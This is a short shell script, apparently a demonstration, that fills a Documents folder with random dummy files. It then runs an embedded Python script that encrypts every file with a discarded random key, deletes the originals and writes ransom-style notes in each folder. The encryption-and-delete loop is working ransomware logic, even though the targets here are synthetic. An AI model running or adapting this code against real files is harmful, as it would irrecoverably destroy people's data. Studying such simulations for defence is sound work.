# Encrypts the files of its own folder, as ransomware does with those of others.
mkdir -p Documents/letters Documents/photos
for i in $(seq 1 30); do head -c 3000 /dev/urandom | base64 >Documents/letters/letter-"$i".txt; head -c 5000 /dev/urandom >Documents/photos/photo-"$i".jpg; done
cat >locker.py <<'LOCKER'
import hashlib, os, pathlib
key = os.urandom(32)
for path in sorted(pathlib.Path("Documents").rglob("*")):
    if path.is_file():
        text = path.read_bytes()
        stream = b""
        while len(stream) < len(text): stream += hashlib.sha256(key + len(stream).to_bytes(8, "big")).digest()
        path.with_name(path.name + ".locked").write_bytes(bytes(a ^ b for a, b in zip(text, stream)))
        path.unlink()
for folder in "Documents", "Documents/letters", "Documents/photos":
    pathlib.Path(folder, "README_TO_DECRYPT.txt").write_text("Your files are encrypted. Pay nobody: the key is gone, and they were random.\n")
LOCKER
ls -R Documents | wc -l
python3 -S locker.py
rm locker.py
